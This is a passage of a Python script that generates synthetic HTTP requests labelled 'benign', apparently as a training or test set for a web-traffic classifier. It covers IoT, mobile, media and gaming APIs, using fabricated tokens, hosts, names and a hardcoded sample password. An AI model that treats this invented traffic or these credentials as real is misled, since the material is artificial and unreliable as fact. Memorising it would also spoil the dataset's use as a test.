            ctype = "application/senml+json"
        elif k == 2:
            x0, y0 = lonlat(r)
            pts = [{"ts": ts_ms(r) + i * 1000, "lat": round(y0 + i * 0.0004, 6), "lon": round(x0 + i * 0.0003, 6), "spd": round(r.uniform(0, 90), 1),
                    "hdg": r.randint(0, 359), "ign": True} for i in range(r.randint(2, 6))]
            body = jdump({"vehicle": d, "points": pts, "odometer_km": r.randint(1000, 300000)}, r)
            path = "/v2/fleet/positions:batch"
        elif k == 3:
            payload = bytes([0x01, r.randint(0, 255), r.randint(0, 255), 0x02, r.randint(0, 100)])
            body = jdump({"end_device_ids": {"device_id": d, "dev_eui": hexid(r, 16).upper(),
                                             "application_ids": {"application_id": "cold-chain"}},
                          "received_at": iso(r), "uplink_message": {"f_port": r.choice([1, 2, 10]),
                          "frm_payload": base64.b64encode(payload).decode(),
                          "decoded_payload": {"temperature": round(r.uniform(-25, 8), 2), "battery": r.randint(60, 100)},
                          "rx_metadata": [{"gateway_ids": {"gateway_id": "lorawan-gw-07"}, "rssi": -r.randint(60, 120), "snr": round(r.uniform(-10, 10), 1)}],
                          "settings": {"data_rate": {"lora": {"bandwidth": 125000, "spreading_factor": r.randint(7, 12)}}}}}, r)
            path = "/webhooks/ttn/uplink"
        else:
            cbor_hex = "a3" + "6474656d70" + "fb" + hexid(r, 16) + "636261741864" + "62696418" + f"{r.randint(0, 255):02x}"
            body = jdump({"id": d, "enc": "cbor", "payload_b64": base64.b64encode(bytes.fromhex(cbor_hex)).decode(),
                          "payload_hex": cbor_hex}, r)
            path = f"/v1/devices/{d}/raw"
        ctype = "application/senml+json" if k == 1 else "application/json"
        add("benign", "benign", "telemetry", "POST", path, iot_headers(r, IOT_HOSTS[0], ctype), body)


def b_mqtt_bridge(r):
    for _ in range(18):
        host = IOT_HOSTS[1]
        topic = r.choice(TOPICS)
        k = r.randint(0, 3)
        if k == 0:
            add("benign", "benign", "mqtt", "GET", uri("/api/v1/subscriptions", [("topic", topic), ("qos", r.randint(0, 2))], rstyle(r)),
                iot_headers(r, host))
        elif k == 1:
            body = jdump({"topic": topic.replace("+", dev_id(r)).replace("/#", "/state"), "qos": 1, "retain": r.random() < 0.3,
                          "payload": jdump({"state": r.choice(["ON", "OFF"]), "brightness": r.randint(0, 254)})}, r)
            add("benign", "benign", "mqtt", "POST", "/api/v1/publish", iot_headers(r, host), body)
        elif k == 2:
            t = topic.replace("#", "state").replace("+", dev_id(r))
            add("benign", "benign", "mqtt", "POST", uri("/api/v1/publish", [("topic", t), ("retain", "false")], rstyle(r)),
                iot_headers(r, host, "text/plain"), r.choice(["21.5", "ON", "{\"temp\":21.5}", "offline", "1"]))
        else:
            body = jdump({"clientid": f"bridge-{hexid(r, 6)}", "topics": [{"topic": t, "qos": r.randint(0, 2)} for t in r.sample(TOPICS, 3)],
                          "clean_start": True, "session_expiry_interval": 3600}, r)
            add("benign", "benign", "mqtt", "POST", "/api/v5/clients/subscribe", iot_headers(r, host), body)


def b_lwm2m(r):
    for _ in range(14):
        ep = f"urn:imei:{r.randint(10 ** 14, 10 ** 15 - 1)}"
        k = r.randint(0, 2)
        if k == 0:
            body = "</>;rt=\"oma.lwm2m\";ct=11543,</1/0>,</3/0>,</4/0>,</5/0>,</3303/0>,</3303/1>,</3323/0>"
            path = uri("/rd", [("ep", ep), ("lt", r.choice([300, 86400])), ("lwm2m", "1.1"), ("b", "U")], "js")
            add("benign", "benign", "lwm2m", "POST", path, iot_headers(r, IOT_HOSTS[2], "application/link-format"), body)
        elif k == 1:
            obj = r.choice(["3303/0/5700", "3/0/9", "5/0/3", "3323/0/5700"])
            add("benign", "benign", "lwm2m", "GET", f"/api/clients/{q(ep)}/{obj}?format=SENML_JSON&timeout=5",
                iot_headers(r, IOT_HOSTS[2], ua=r.choice(BROWSERS)))
        else:
            body = jdump({"id": 5850, "kind": "singleResource", "value": r.choice([True, False])}, r)
            add("benign", "benign", "coap", "PUT", f"/coap/{q(ep)}/3311/0/5850?confirmable=true",
                iot_headers(r, IOT_HOSTS[2]), body)


def intel_hex(r, lines):
    out = []
    for i in range(lines):
        data = r.randbytes(16)
        rec = bytes([16, (i * 16) >> 8 & 0xFF, (i * 16) & 0xFF, 0]) + data
        out.append(":" + rec.hex().upper() + f"{(-sum(rec)) & 0xFF:02X}")
    return "\n".join(out + [":00000001FF"]) + "\n"


def b_ota(r):
    for _ in range(10):
        d = dev_id(r)
        ver = f"{r.randint(1, 4)}.{r.randint(0, 20)}.{r.randint(0, 9)}"
        k = r.randint(0, 2)
        if k == 0:
            body = intel_hex(r, r.randint(6, 20))
            add("benign", "benign", "ota", "POST", uri("/v1/firmware", [("model", "th-sensor-c3"), ("version", ver)]),
                iot_headers(r, IOT_HOSTS[3], "application/octet-stream", ua="curl/8.5.0",
                            extra=[["Content-Disposition", f'attachment; filename="th-sensor-c3_{ver}.hex"'],
                                   ["X-Checksum-SHA256", hashlib.sha256(body.encode()).hexdigest()]]), body)
        elif k == 1:
            add("benign", "benign", "ota", "GET", f"/v1/firmware/th-sensor-c3/{ver}/image.bin",
                iot_headers(r, IOT_HOSTS[3], None, ua=r.choice(DEVICES[:2]),
                            extra=[["Range", f"bytes={r.randint(0, 64) * 4096}-"], ["x-ESP32-version", ver],
                                   ["x-ESP32-STA-MAC", mac(r)], ["x-ESP32-sketch-md5", hexid(r, 32)]]))
        else:
            body = jdump({"device": d, "current": ver, "target": f"{ver[0]}.{r.randint(0, 20)}.0", "status": r.choice(["DOWNLOADING", "VERIFYING", "APPLIED", "FAILED"]),
                          "progress": r.randint(0, 100), "error": r.choice([None, "E_SIG_MISMATCH: manifest sha256 != image", "timeout after 30s (retry 2/3)"])}, r)
            add("benign", "benign", "ota", "POST", f"/v1/devices/{d}/ota/status", iot_headers(r, IOT_HOSTS[3]), body)


def b_shadow(r):
    for _ in range(14):
        d = dev_id(r)
        k = r.randint(0, 2)
        host = IOT_HOSTS[6]
        if k == 0:
            add("benign", "benign", "shadow", "GET", f"/things/{d}/shadow?name={r.choice(['config', 'ota', 'location'])}",
                iot_headers(r, host, None))
        else:
            st = {"state": {"desired" if k == 1 else "reported": {
                "led": {"color": "#" + hexid(r, 6), "mode": r.choice(["solid", "blink"])},
                "report_interval_s": r.choice([30, 60, 300]), "name": r.choice(DEVICE_NAMES),
                "thresholds": {"temp_max": 8.0, "temp_min": -2.5}, "tz": "Europe/Dublin",
                "cron": r.choice(["*/5 * * * *", "0 3 * * 1-5", "@hourly"])}}, "version": r.randint(1, 999)}
            if k == 2:
                st["state"]["desired"] = None
            add("benign", "benign", "shadow", "POST", f"/things/{d}/shadow", iot_headers(r, host), jdump(st, r))


def b_smarthome(r):
    cmds = ["Power TOGGLE", "Backlog Power1 ON; Delay 100; Power1 OFF", "Status 0", "Dimmer 45", "Color 255,128,0",
            "Rule1 ON Switch1#State=1 DO Power1 %value% ENDON", "Timer1 {\"Enable\":1,\"Time\":\"06:30\",\"Days\":\"-MTWTF-\",\"Action\":1}",
            "TelePeriod 60", "SetOption19 1", "Backlog Wifi 3; SSID1 IoT-2.4G; Hostname garage-%06X"]
    for _ in range(10):
        add("benign", "benign", "tasmota", "GET", "/cm?" + qs([("user", "admin"), ("password", "c0ld-R00m!"), ("cmnd", r.choice(cmds))], rstyle(r)),
            headers(r, f"192.168.{r.randint(0, 3)}.{r.randint(2, 250)}", r.choice(["Home Assistant/2024.11.3 aiohttp/3.10.10 Python/3.12", "Node-RED", "curl/8.5.0"]), "*/*"))
    for _ in range(14):
        k = r.randint(0, 3)
        if k == 0:
            body = jdump({"event": r.choice(["arrived", "left"]), "zone": r.choice(["Home", "Work", "Mary's"]),
                          "device": "iPhone de Sofía", "latitude": lonlat(r)[1], "longitude": lonlat(r)[0], "accuracy": r.randint(5, 65)}, r)
            add("benign", "benign", "homeassistant", "POST", f"/api/webhook/{b64u(r.randbytes(24))}",
                headers(r, IOT_HOSTS[4], r.choice(MOBILE[4:]), "*/*", "application/json"), body)
        elif k == 1:
            body = jdump({"template": "{{ states('sensor.greenhouse_temperature') | float(0) | round(1) }} °C"}, r)
            add("benign", "benign", "homeassistant", "POST", "/api/template",
                headers(r, IOT_HOSTS[4], "Home Assistant/2024.11.3 aiohttp/3.10.10 Python/3.12", "*/*", "application/json", auth="Bearer " + jwt(r)), body)
        elif k == 2:
            body = jdump({"entity_id": f"light.{r.choice(['kitchen', 'porch', 'obriens_office'])}", "brightness_pct": r.randint(1, 100),
                          "rgb_color": [r.randint(0, 255) for _ in range(3)], "transition": 2}, r)
            add("benign", "benign", "homeassistant", "POST", "/api/services/light/turn_on",
                headers(r, IOT_HOSTS[4], "python-requests/2.32.3", "application/json", "application/json", auth="Bearer " + jwt(r)), body)
        else:
            body = jdump({"payload": {"sensor": r.choice(DEVICE_NAMES), "value": round(r.uniform(0, 100), 2)}, "topic": r.choice(TOPICS),
                          "_msgid": hexid(r, 16)}, r)
            add("benign", "benign", "nodered", "POST", f"/{r.choice(['ingest', 'hooks/shelly', 'api/alarm'])}",
                headers(r, IOT_HOSTS[5], r.choice(DEVICES), "*/*", "application/json"), body)


# ================================================================ mobile

MOB_HOSTS = ["api.trailmate.app", "trailmate-prod-default-rtdb.europe-west1.firebasedatabase.app",
             "push.pulse-fitness.com", "iap.pulse-fitness.com", "events.trailmate.app", "l.trailmate.app"]
NAMES = ["Siobhan O'Brien", "D'Angelo Barksdale", "Zoë Saldaña-Perego", "Łukasz Żmuda", "Renée & Jo",
         "Jean-Luc Picard", "María José (MJ)", "李小龙", "Ahmed Al-Farsi", "Mac O'Malley-Ng", "Dr. Müller, PhD"]


def fcm_token(r):
    return b64u(r.randbytes(16))[:22] + ":APA91b" + b64u(r.randbytes(105))


def mob_headers(r, host, ctype=None, auth="bearer", extra=()):
    ua = r.choice(MOBILE)
    ex = [["X-App-Version", f"5.{r.randint(10, 14)}.{r.randint(0, 9)}"],
          ["X-Platform", "ios" if ("iOS" in ua or "CFNetwork" in ua or "iPhone" in ua) else "android"]]
    return headers(r, host, ua, "application/json", ctype, auth=auth, extra=ex + list(extra))


def b_push(r):
    for _ in range(14):
        if r.random() < 0.6:
            body = jdump({"token": fcm_token(r), "platform": "android", "app_id": "com.trailmate.app",
                          "locale": r.choice(["en_US", "de_DE", "pt_BR", "ga_IE"]), "tz": r.choice(["Europe/Dublin", "America/Sao_Paulo"])}, r)
        else:
            body = jdump({"token": hexid(r, 64), "platform": "ios", "environment": r.choice(["production", "sandbox"]),
                          "app_id": "com.trailmate.ios", "topics": ["trail-alerts", "weekly-digest"]}, r)
        add("benign", "benign", "push", "POST", "/v1/push/tokens", mob_headers(r, MOB_HOSTS[2], "application/json"), body)
    for _ in range(6):
        body = jdump({"message": {"token": fcm_token(r), "notification": {"title": r.choice(["Trail closed ⚠️", "New PR! 🏃‍♀️", "You're 2 km from O'Brien's Pub"]),
                      "body": "Tap to see details & alternatives"}, "data": {"deeplink": "trailmate://trail/4821?src=push"},
                      "android": {"priority": "high"}, "apns": {"payload": {"aps": {"sound": "default", "badge": 1}}}}}, r)
        add("benign", "benign", "push", "POST", "/v1/projects/trailmate-prod/messages:send",
            headers(r, "fcm.googleapis.com", "google-api-nodejs-client/9.15.0", "application/json", "application/json; charset=utf-8", auth="Bearer ya29." + b64u(r.randbytes(90))), body)


def b_firebase(r):
    for _ in range(22):
        host = MOB_HOSTS[1]
        uid = b64u(r.randbytes(21))[:28]
        k = r.randint(0, 5)
        auth_q = [("auth", jwt(r, iss="https://securetoken.google.com/trailmate-prod"))] if r.random() < 0.5 else []
        if k == 0:
            path = uri("/users/" + uid + "/trails.json", [("orderBy", '"$key"'), ("limitToFirst", r.choice([10, 25]))] + auth_q, rstyle(r))
        elif k == 1:
            path = uri("/leaderboard/weekly.json", [("orderBy", '"score"'), ("startAt", r.randint(100, 900)), ("limitToLast", 50), ("print", "pretty")], rstyle(r))
        elif k == 2:
            path = uri("/chats/" + uid + "/messages.json", [("orderBy", '"$priority"'), ("endAt", ts_ms(r)), ("limitToLast", 30)] + auth_q, rstyle(r))
        elif k == 3:
            path = uri("/trails.json", [("orderBy", '"region"'), ("equalTo", '"Connemara"'), ("shallow", "false")], rstyle(r))
        elif k == 4:
            path = uri("/.json", [("shallow", "true")] + auth_q, rstyle(r))
        else:
            body = jdump({"name": r.choice(NAMES), "lastSeen": {".sv": "timestamp"}, "stats/distance_km": round(r.uniform(0, 900), 2)}, r)
            add("benign", "benign", "firebase", "PATCH", f"/users/{uid}.json", mob_headers(r, host, "application/json", auth=None), body)
            continue
        add("benign", "benign", "firebase", "GET", path, mob_headers(r, host, auth=None))
    for _ in range(6):
        body = jdump({"structuredQuery": {"from": [{"collectionId": "trails"}], "where": {"fieldFilter": {"field": {"fieldPath": "region"},
                      "op": "EQUAL", "value": {"stringValue": r.choice(["Connemara", "Côte d'Azur", "Cairngorms"])}}},
                      "orderBy": [{"field": {"fieldPath": "rating"}, "direction": "DESCENDING"}], "limit": 20}}, r)
        add("benign", "benign", "firestore", "POST", "/v1/projects/trailmate-prod/databases/(default)/documents:runQuery",
            mob_headers(r, "firestore.googleapis.com", "application/json"), body)


def b_iap(r):
    for _ in range(14):
        if r.random() < 0.5:
            receipt = base64.b64encode(b"0\x82" + r.randbytes(r.randint(600, 1400))).decode()
            body = jdump({"receipt-data": receipt, "password": hexid(r, 32), "exclude-old-transactions": True}, r)
            add("benign", "benign", "iap", "POST", "/v1/receipts/apple", mob_headers(r, MOB_HOSTS[3], "application/json"), body)
        else:
            body = jdump({"packageName": "com.pulse.fitness", "productId": r.choice(["pro_monthly", "pro_yearly", "coins_500"]),
                          "purchaseToken": "".join(r.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(24)) + "." + b64u(r.randbytes(90)),
                          "orderId": f"GPA.{r.randint(1000, 9999)}-{r.randint(1000, 9999)}-{r.randint(1000, 9999)}-{r.randint(10000, 99999)}"}, r)
            add("benign", "benign", "iap", "POST", "/v1/receipts/google", mob_headers(r, MOB_HOSTS[3], "application/json"), body)


def b_deeplinks(r):
    for _ in range(16):
        k = r.randint(0, 2)
        if k == 0:
            pairs = [("link", f"https://trailmate.app/trail/{r.randint(1, 9999)}?ref=share"), ("apn", "com.trailmate.app"),
                     ("ibi", "com.trailmate.ios"), ("st", r.choice(["Sunset loop 🌅", "Mary's trail", "Ridge & back"])),
                     ("utm_source", "whatsapp"), ("utm_campaign", "share_trail")]
            path = uri("/", pairs, rstyle(r))
        elif k == 1:
            path = uri("/open", [("url", f"trailmate://trail/{r.randint(1, 9999)}?tab=photos"), ("fallback", "https://trailmate.app/download")], rstyle(r))
        else:
            path = f"/{b64u(r.randbytes(6))}?d=1"
        add("benign", "benign", "deeplink", "GET", path, headers(r, MOB_HOSTS[5], r.choice(BROWSERS), "text/html,application/xhtml+xml,*/*;q=0.8"))
    for _ in range(4):
        add("benign", "benign", "deeplink", "GET", "/.well-known/" + r.choice(["apple-app-site-association", "assetlinks.json"]),
            headers(r, "trailmate.app", r.choice(["AASA-Bot/1.0.0", "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/AP2A.240905.003)"]), "*/*"))


def b_analytics(r):
    for _ in range(16):
        ua = r.choice(MOBILE)
        evs = []
        for _ in range(r.randint(2, 8)):
            evs.append({"event": r.choice(["screen_view", "trail_started", "purchase", "search", "share"]),
                        "ts": ts_ms(r), "session_id": ts_ms(r), "device_id": uuid4(r),
                        "props": r.choice([{"screen": "MapView"}, {"query": r.choice(ADDRESSES)}, {"value": 4.99, "currency": "EUR"},
                                           {"trail": r.choice(["Mary's loop", "Glen & Ridge"]), "dist_km": 12.4}, {"filter": "difficulty=hard&dog_friendly=1"}])})
        batch = {"api_key": hexid(r, 32), "events": evs, "options": {"min_id_length": 1},
                 "context": {"os": "Android 14" if "okhttp" in ua or "Dalvik" in ua else "iOS 17.6", "user_agent": ua,
                             "carrier": r.choice(["Vodafone IE", "T-Mobile", "AT&T", "NTT DOCOMO"]), "screen": "1080x2400"}}
        add("benign", "benign", "analytics", "POST", r.choice(["/2/httpapi", "/v1/batch", "/collect/batch"]),
            headers(r, MOB_HOSTS[4], ua, "*/*", "application/json"), jdump(batch, r))
    for _ in range(8):
        trace = r.choice([
            "java.lang.NullPointerException: Attempt to invoke virtual method 'java.lang.String android.location.Location.getProvider()' on a null object reference\n\tat com.trailmate.map.TrackRecorder.onLocationChanged(TrackRecorder.kt:212)\n\tat android.location.LocationListener.onLocationChanged(LocationListener.java:63)",
            "Fatal Exception: NSInvalidArgumentException\n0  CoreFoundation  0x1a2b3c4d __exceptionPreprocess + 164\n1  libobjc.A.dylib  objc_exception_throw + 60\n2  Trailmate  -[MapVC tileOverlay:didFail:] (MapVC.m:88)",
            "kotlinx.coroutines.JobCancellationException: StandaloneCoroutine was cancelled; job=StandaloneCoroutine{Cancelling}@3f1a2b",
        ])
        body = jdump({"app": "com.trailmate.app", "version": "5.14.2 (5142)", "thread": "main", "trace": trace,
                      "breadcrumbs": ["open MapView", "zoom 14 -> 16", "tap 'Record'"], "free_mem_mb": r.randint(80, 900)}, r)
        add("benign", "benign", "crash", "POST", "/v1/crashes", headers(r, MOB_HOSTS[4], r.choice(MOBILE), "*/*", "application/json"), body)


def b_profile(r):
    for _ in range(10):
        body = jdump({"displayName": r.choice(NAMES), "bio": r.choice(["Trail runner 🏃 | coffee ☕ | 5k PR 19:58", "Dog dad 🐕 & map nerd (OSM since '09)", "<3 the Burren"]),
                      "home": {"lat": lonlat(r)[1], "lon": lonlat(r)[0]}, "units": r.choice(["metric", "imperial"])}, r)
        add("benign", "benign", "profile", "PATCH", "/v1/me", mob_headers(r, MOB_HOSTS[0], "application/json"), body)


# ================================================================ media

MEDIA_HOSTS = ["cdn.streamly.tv", "vod.streamly.tv", "upload.streamly.tv", "transcode.media.svc.cluster.local:8080",
               "img.trailmate.app", "podcasts.streamly.tv"]
FILTERS = ["scale=1280:-2,fps=30", "scale=-2:720:flags=lanczos,format=yuv420p", "crop=in_w:in_h-140:0:70,scale=1920:1080",
           "fps=fps=1/10,scale=320:-1,tile=5x4", "[0:v]split=2[a][b];[a]scale=1920:-2[hd];[b]scale=640:-2[sd]",
           "drawtext=fontfile=/usr/share/fonts/DejaVuSans.ttf:text='Mary\\'s run – day 3':x=10:y=H-th-10:fontsize=28:fontcolor=white@0.8",
           "overlay=W-w-20:H-h-20,format=yuv420p", "loudnorm=I=-16:TP=-1.5:LRA=11", "atempo=1.25,aresample=48000",
           "yadif=1:-1:0,hqdn3d=4:3:6:4.5", "setpts=0.5*PTS", "zscale=t=linear:npl=100,tonemap=hable,zscale=t=bt709:m=bt709:r=tv",
           "select='gt(scene,0.4)',showinfo", "pad=ceil(iw/2)*2:ceil(ih/2)*2"]


def b_streaming(r):
    for _ in range(30):
        vid = hexid(r, 10)
        k = r.randint(0, 5)
        ua = r.choice(PLAYERS + BROWSERS[:2])
        extra = []
        if k == 0:
            path, acc = f"/hls/{vid}/master.m3u8", "application/vnd.apple.mpegurl,*/*"
        elif k == 1:
            path, acc = f"/hls/{vid}/{r.choice(['1080p', '720p', '480p'])}/index.m3u8?" + qs([("token", b64u(r.randbytes(24))), ("expires", 1764990000 + r.randint(0, 9999))]), "*/*"
        elif k == 2:
            path, acc = f"/hls/{vid}/720p/seg_{r.randint(0, 900):05d}.ts", "*/*"
        elif k == 3:
            a = r.randint(0, 4000) * 1024
            path, acc = f"/hls/{vid}/720p/main.mp4", "*/*"
            extra = [["Range", f"bytes={a}-{a + r.randint(100, 2000) * 1024 - 1}"]]
        elif k == 4:
            path, acc = f"/dash/{vid}/{r.choice(['manifest.mpd', 'video/avc1/3/init.mp4', 'video/avc1/3/seg-' + str(r.randint(1, 400)) + '.m4s', 'audio/und/mp4a/seg-' + str(r.randint(1, 400)) + '.m4s'])}", "*/*"
        else:
            path, acc = f"/hls/{vid}/subs/{r.choice(['en', 'pt-BR', 'ga'])}.vtt", "text/vtt,*/*"
        if "Lavf" not in ua and r.random() < 0.4:
            extra.append(["Origin", "https://www.streamly.tv"])
        add("benign", "benign", "streaming", "GET", path, headers(r, r.choice(MEDIA_HOSTS[:2]), ua, acc, extra=extra))


def b_upload(r):
    for _ in range(7):
        meta = {"filename": r.choice(["GoPro 0042.MP4", "Mary's wedding (final).mov", "clip #3 – drone.mp4", "Vlog_été_2026.mkv"]),
                "filetype": r.choice(["video/mp4", "video/quicktime", "video/x-matroska"]), "album": "Ireland & Scotland"}
        um = ",".join(f"{k} {base64.b64encode(v.encode()).decode()}" for k, v in meta.items())
        size = r.randint(10 ** 6, 4 * 10 ** 9)
        add("benign", "benign", "tus", "POST", "/files/",
            headers(r, MEDIA_HOSTS[2], r.choice(BROWSERS), "*/*", auth="bearer",
                    extra=[["Tus-Resumable", "1.0.0"], ["Upload-Length", str(size)], ["Upload-Metadata", um]]), "")
        chunk = "".join(r.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") for _ in range(r.randint(200, 600)))
        add("benign", "benign", "tus", "PATCH", f"/files/{hexid(r, 32)}",
            headers(r, MEDIA_HOSTS[2], r.choice(BROWSERS), "*/*", "application/offset+octet-stream", auth="bearer",
                    extra=[["Tus-Resumable", "1.0.0"], ["Upload-Offset", str(r.randint(0, 400) * 5242880)]]), chunk)
    for _ in range(8):
        bnd = "----WebKitFormBoundary" + b64u(r.randbytes(12))[:16]
        title = r.choice(["Sunset over Dún Laoghaire 🌅", "Cliffs of Moher — 4K", "Kids' football (U-9) final", "Test #2: 60 fps vs 30 fps"])
        parts = [f'--{bnd}\r\nContent-Disposition: form-data; name="title"\r\n\r\n{title}\r\n',
                 f'--{bnd}\r\nContent-Disposition: form-data; name="tags"\r\n\r\nireland,coast,drone\r\n',
                 f'--{bnd}\r\nContent-Disposition: form-data; name="thumbnail"; filename="thumb.jpg"\r\nContent-Type: image/jpeg\r\n\r\n'
                 + "".join(r.choice("0123456789abcdef") for _ in range(256)) + "\r\n", f"--{bnd}--\r\n"]
        add("benign", "benign", "upload", "POST", "/v1/videos",
            headers(r, MEDIA_HOSTS[2], r.choice(BROWSERS), "application/json", f"multipart/form-data; boundary={bnd}", auth="bearer"), "".join(parts))


def b_transcode(r):
    for _ in range(18):
        src = f"s3://media-ingest/uploads/{hexid(r, 8)}/{r.choice(['source.mov', 'GoPro 0042.MP4', 'interview (raw).mxf'])}"
        job = {"input": src, "outputs": [], "priority": r.choice(["normal", "high"]), "webhook": "https://api.streamly.tv/hooks/transcode"}
        for ren in r.sample(["1080p", "720p", "480p", "audio"], r.randint(1, 3)):
            o = {"name": ren, "container": "hls" if ren != "audio" else "m4a",
                 "video_filter": r.choice(FILTERS) if ren != "audio" else None,
                 "audio_filter": r.choice(["loudnorm=I=-16:TP=-1.5:LRA=11", "aresample=48000", "pan=stereo|c0=c0|c1=c1"]),
                 "codec": r.choice(["libx264", "libx265", "libsvtav1"]), "crf": r.randint(18, 30),
                 "x264opts": r.choice(["keyint=60:min-keyint=60:no-scenecut", "ref=4:bframes=3", None]),
                 "hls_segment_filename": f"{ren}/seg_%05d.ts"}
            job["outputs"].append(o)
        if r.random() < 0.3:
            job["thumbnails"] = {"filter": "fps=1/10,scale=320:-1", "pattern": "thumb_%03d.jpg"}
        add("benign", "benign", "transcode", "POST", "/v1/jobs", headers(r, MEDIA_HOSTS[3], r.choice(["Go-http-client/1.1", "python-requests/2.32.3", "axios/1.7.7"]),
                                                                       "application/json", "application/json", auth="bearer"), jdump(job, r))


def vtt(r):
    cues = ["WEBVTT", "", "NOTE generated by Whisper large-v3, reviewed by Siobhán", ""]
    lines = ["<v Mary>It's <i>so</i> windy up here!", "- Where's the car park?\n- Just past the gate & the stile.",
             "<b>[wind howling]</b>", "Níl sé ach 5 km eile — only 5 km to go.", "He said \"left at O'Neill's\" -> then straight on",
             "♪ (music) ♪", "<c.yellow>Subscribe & share!</c>", "50% done... 100%? Not yet :)"]
    t = 0.0
    for i in range(r.randint(3, 6)):
        a, t = t, t + r.uniform(1.5, 5)
        fmt = lambda s: f"00:{int(s // 60):02d}:{s % 60:06.3f}"
        cues += [str(i + 1), f"{fmt(a)} --> {fmt(t)}" + r.choice(["", " align:start position:10%", " line:-2"]), r.choice(lines), ""]
    return "\n".join(cues)


def srt(r):
    out, t = [], 0
    for i in range(r.randint(3, 6)):
        a, t = t, t + r.randint(1500, 5000)
        f = lambda ms: f"{ms // 3600000:02d}:{ms // 60000 % 60:02d}:{ms // 1000 % 60:02d},{ms % 1000:03d}"
        out += [str(i + 1), f"{f(a)} --> {f(t)}", r.choice(["<i>(laughs)</i> No way!", "Are we there yet?!", "C'mon — it's 3 o'clock already", "<font color=\"#ffff00\">Narrator:</font> Day 2."]), ""]
    return "\n".join(out)


def b_subtitles(r):
    for _ in range(12):
        vid = hexid(r, 10)
        if r.random() < 0.6:
            body, ct, ext = vtt(r), "text/vtt; charset=utf-8", "vtt"
        else:
            body, ct, ext = srt(r), "application/x-subrip", "srt"
        add("benign", "benign", "subtitles", "PUT", f"/v1/videos/{vid}/captions/{r.choice(['en', 'ga', 'pt-BR'])}.{ext}",
            headers(r, MEDIA_HOSTS[2], r.choice(BROWSERS), "application/json", ct, auth="bearer"), body)


def b_podcasts(r):
    feeds = ["https://feeds.simplecast.com/54nAGcIl", "https://anchor.fm/s/1a2b3c4d/podcast/rss",
             "https://www.rte.ie/radio/podcasts/feeds/podcast_ronanandjohn.xml", "https://feeds.megaphone.fm/WWO3519750118",
             "https://podcasts.example.org/shows/map-nerds/feed.xml?format=mp3&explicit=false"]
    for _ in range(12):
        f = r.choice(feeds)
        if r.random() < 0.5:
            add("benign", "benign", "podcast", "POST", "/v1/feeds", headers(r, MEDIA_HOSTS[5], r.choice(BROWSERS + MOBILE), "application/json",
                                                                           "application/json", auth="bearer"), jdump({"url": f, "refresh": "PT1H"}, r))
        else:
            add("benign", "benign", "podcast", "GET", uri("/v1/feeds/preview", [("url", f)], rstyle(r)),
                headers(r, MEDIA_HOSTS[5], r.choice(BROWSERS), "application/json", auth="bearer"))


def b_images(r):
    for _ in range(20):
        name = r.choice(["photo.jpg", "trail-4821/cover.webp", "avatars/u_88412.png", "Mary%27s%20run.jpg", "IMG_2024-06-01_1432.HEIC"])
        k = r.randint(0, 3)
        if k == 0:
            tr = ",".join(r.sample([f"w_{r.choice([200, 400, 800])}", f"h_{r.choice([150, 300, 600])}", "c_fill", "g_auto", "q_auto:good", "f_auto", "dpr_2.0"], r.randint(2, 5)))
            path = f"/img/{tr}/{name}"
        elif k == 1:
            src = b64u(f"s3://trailmate-media/{name}".encode())
            path = f"/{b64u(r.randbytes(32))}/rs:fill:{r.choice([300, 600])}:{r.choice([200, 400])}/g:sm/q:{r.randint(60, 90)}/{src}.webp"
        elif k == 2:
            path = f"/unsafe/{r.choice(['300x200', 'fit-in/800x0', '0x400'])}/smart/filters:quality({r.randint(60, 95)}):format(webp)/{name}"
        else:
            path = uri(f"/_next/image", [("url", f"/uploads/{name}"), ("w", r.choice([640, 1080, 1920])), ("q", 75)], "js")
        add("benign", "benign", "image", "GET", path,
            headers(r, MEDIA_HOSTS[4], r.choice(BROWSERS + MOBILE), "image/avif,image/webp,image/apng,image/*,*/*;q=0.8"))


# ================================================================ gaming

GAME_HOSTS = ["api.skyforge-game.com", "chat.skyforge-game.com", "mm.skyforge-game.com", "lb.skyforge-game.com"]
CHAT = ["gg ez 😎", "gg wp all <3", "l0l n00b, u got pwn3d", "brb 5 min, mom says dinner 🍝", "who's up for ranked? need 1 more (plat+)",
        "1v1 me bro >:)", "that was 1337 af 🔥🔥🔥", "can't believe O'Neil missed that :'(", "lag spike again... ping 300ms >_<",
        "¿alguien juega en EU-West?", "Trade: 2x [Dragon Scale] for 1x [Mithril Ore] ?", "GLHF!! ^_^", "dont go mid -> they have 3 there",
        "w8 4 me @ the bridge", "ok ok... 50/50 split on loot?", "NERF SNIPERS PLS 😤", "😂😂😂 r u serious", "rdy? 3.. 2.. 1.. go!",
        "mi cuenta: xX_Sn1per_Xx#4471", "ещё одну катку?", "¯\\_(ツ)_/¯", "idk lol, ask the 'pro' over there",
        "price of [Ruby] is 5k or 10% off?", "you & me vs. them", "c u 2moro, gn 💤", "it's ur turn -- hurry up"]
GAMERTAGS = ["xX_Sn1per_Xx", "D'Artagnan", "Zoë🦊", "[FTW]Grim.Reaper", "~*Lil_Pwny*~", "Mac_O'Malley", "N00bSlayer_99", "Łucja-PL", "ǝɹɐpɐɹ"]


def b_gaming(r):
    for _ in range(16):
        k = r.randint(0, 2)
        if k == 0:
            path = uri(f"/v2/leaderboards/{r.choice(['weekly_kills', 'season_7_mmr', 'speedrun-any%'])}",
                       [("around", "me"), ("limit", r.choice([10, 25, 100])), ("region", r.choice(["eu", "na", "apac"]))], rstyle(r))
            add("benign", "benign", "leaderboard", "GET", path, headers(r, GAME_HOSTS[3], r.choice(GAMES), auth="bearer"))
        elif k == 1:
            score = r.randint(100, 999999)
            body = jdump({"score": score, "subscore": r.randint(0, 99), "metadata": {"map": "Frostfall", "build": "0.9.3-beta+4412", "tag": r.choice(GAMERTAGS)},
                          "sig": hashlib.sha256(f"{score}".encode()).hexdigest()}, r)
            add("benign", "benign", "leaderboard", "POST", "/v2/leaderboards/weekly_kills/records",
                headers(r, GAME_HOSTS[3], r.choice(GAMES), "application/json", "application/json", auth="bearer"), body)
        else:
            path = uri("/v2/leaderboards/speedrun-any%/records", [("owner_ids", ",".join(uuid4(r) for _ in range(3))), ("cursor", b64u(r.randbytes(18)))], "js")
            add("benign", "benign", "leaderboard", "GET", path, headers(r, GAME_HOSTS[3], r.choice(GAMES), auth="bearer"))
    for _ in range(22):
        msg = r.choice(CHAT)
        if r.random() < 0.7:
